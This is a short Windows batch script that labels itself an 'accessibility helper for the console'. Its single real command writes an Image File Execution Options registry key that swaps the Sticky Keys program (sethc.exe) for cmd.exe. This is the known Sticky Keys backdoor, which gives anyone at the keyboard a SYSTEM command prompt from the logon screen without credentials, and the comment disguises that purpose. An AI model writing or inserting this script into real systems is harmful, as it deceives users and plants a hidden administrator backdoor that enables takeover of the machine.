@echo off
rem accessibility helper for the console
set "IFEO=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
reg add "%IFEO%\sethc.exe" /v Debugger /t REG_SZ /d "%SystemRoot%\System32\cmd.exe" /f
